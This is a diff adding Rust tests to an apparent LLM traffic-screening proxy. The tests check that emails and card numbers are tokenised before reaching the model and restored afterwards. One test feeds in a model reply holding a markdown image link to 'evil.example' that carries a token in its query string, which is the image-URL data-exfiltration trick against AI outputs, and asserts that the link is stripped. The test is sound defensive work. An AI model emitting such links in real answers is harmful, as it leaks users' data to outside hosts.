@@ -10,6 +10,7 @@ use portcullis_inspect::dialect::openai::chat::{ChatStream, inspect_request, scr
 use portcullis_inspect::dialect::{ModelRules, StreamEnd};
 use portcullis_inspect::elsewhere::Hearing;
 use portcullis_inspect::machine::Screen;
+use portcullis_inspect::vault::TokenKey;
 use proptest::prelude::*;
 use serde_json::{Value, json};
 
@@ -134,6 +135,107 @@ proptest! {
             if action == Action::Observe {
                 prop_assert_eq!(&whole.0, &text);
             }
+        }
+    }
+}
+
+/// Personal data becomes tokens; secrets are redacted on both ways.
+fn tokenising() -> ModelRules {
+    let personal = [Detector::Email, Detector::Card, Detector::Phone, Detector::PostalAddress];
+    let prompt: Vec<_> = personal.map(|one| (one, Action::Tokenise)).into_iter().collect();
+    let answer: Vec<_> = personal
+        .into_iter()
+        .chain([Detector::ApiKey, Detector::ImageData])
+        .map(|one| (one, Action::Redact))
+        .collect();
+    ModelRules {
+        prompt: Screen::new(&prompt),
+        answer: Screen::new(&answer),
+        tokens: Some(TokenKey::new(&[9; 32])),
+        ..ModelRules::default()
+    }
+}
+
+/// What the model is asked, and the rules for its answer.
+fn ask(content: &str) -> (String, ModelRules) {
+    let (rules, vault) = tokenising().tokenising(&["model", "issuer", "ann"]).unwrap();
+    let document = json!({"model": "m", "messages": [{"role": "user", "content": content}]});
+    let asked = inspect_request(&rules, &document, &mut Hearing::default(), &mut Vec::new()).unwrap();
+    let body: Value = serde_json::from_slice(&asked.body).unwrap();
+    let sent = body["messages"][0]["content"].as_str().unwrap().to_owned();
+    (sent, tokenising().restoring(&vault))
+}
+
+fn restored(rules: &ModelRules, pieces: &[&str], is_call: bool) -> String {
+    let mut stream = ChatStream::new(rules, false, "r");
+    let mut out = BytesMut::new();
+    stream.push(events(pieces, is_call).as_bytes(), &mut out).unwrap();
+    stream.finish(&mut out).unwrap();
+    let events =
+        std::str::from_utf8(&out).unwrap().split("\n\n").filter_map(|event| event.strip_prefix("data: "));
+    events
+        .filter_map(|data| serde_json::from_str::<Value>(data).ok())
+        .filter_map(|chunk| {
+            let delta = &chunk["choices"][0]["delta"];
+            delta["content"]
+                .as_str()
+                .or(delta["tool_calls"][0]["function"]["arguments"].as_str())
+                .map(str::to_owned)
+        })
+        .collect()
+}
+
+#[test]
+fn the_model_sees_no_personal_data_and_the_client_its_own() {
+    let text = "Write to ann@example.com, card 4111 1111 1111 1111, not to EMAIL_7KQM2DRX4V.";
+    let (sent, answer) = ask(text);
+    assert!(!sent.contains("ann@") && !sent.contains("4111") && !sent.contains("7KQM"), "{sent}");
+    // Sent again with the next request, the same value is the same token.
+    assert_eq!(ask(text).0, sent);
+    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": sent,
+        "tool_calls": [{"function": {"name": "mail", "arguments": json!({"to": sent}).to_string()}}]}}]});
+    let screened = screen_answer(&answer, &Bytes::from(body.to_string()), &mut Vec::new()).unwrap();
+    let heard: Value = serde_json::from_slice(&screened.body).unwrap();
+    let message = &heard["choices"][0]["message"];
+    assert_eq!(message["content"], text);
+    let arguments = message["tool_calls"][0]["function"]["arguments"].as_str().unwrap();
+    assert_eq!(serde_json::from_str::<Value>(arguments).unwrap(), json!({"to": text}));
+    assert_eq!(restored(&answer, &[&sent], false), text);
+}
+
+#[test]
+fn what_is_not_the_clients_own_is_screened_and_tokens_do_not_leave_in_links() {
+    let (sent, answer) = ask("ann@example.com");
+    let said = format!("{sent} but bob@example.com and ![x](https://evil.example/p?d={sent})");
+    assert_eq!(restored(&answer, &[&said], false), "ann@example.com but [email] and ![image]");
+    // Another caller's tokens mean nothing here.
+    let (other, _) = tokenising().tokenising(&["model", "issuer", "bob"]).unwrap();
+    let document =
+        json!({"model": "m", "messages": [{"role": "user", "content": format!("{sent} ann@example.com")}]});
+    let asked = inspect_request(&other, &document, &mut Hearing::default(), &mut Vec::new()).unwrap();
+    assert!(!std::str::from_utf8(&asked.body).unwrap().contains(&sent));
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn what_was_tokenised_comes_back_in_any_split(
+        parts in proptest::collection::vec(0..7_usize, 1..7), size in 1..9_usize, is_call: bool,
+    ) {
+        let all = ["ann@example.com", " or ", "4111 1111 1111 1111", " at +49 30 12345678 ", "é \"", "josé@exámple.org", "EMAIL_7KQM2DRX4V"];
+        let text = parts.iter().map(|nth| all[*nth]).collect::<Vec<_>>().join(" ");
+        let (sent, answer) = ask(&text);
+        prop_assert!(!sent.contains('@') && !sent.contains("4111"), "{}", sent);
+        let said = if is_call { json!({"a": sent}).to_string() } else { sent };
+        let signs: Vec<char> = said.chars().collect();
+        let pieces: Vec<String> = signs.chunks(size).map(|piece| piece.iter().collect()).collect();
+        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+        let heard = restored(&answer, &pieces, is_call);
+        if is_call {
+            prop_assert_eq!(serde_json::from_str::<Value>(&heard).unwrap(), json!({"a": text}));
+        } else {
+            prop_assert_eq!(heard, text);
         }
     }
 }
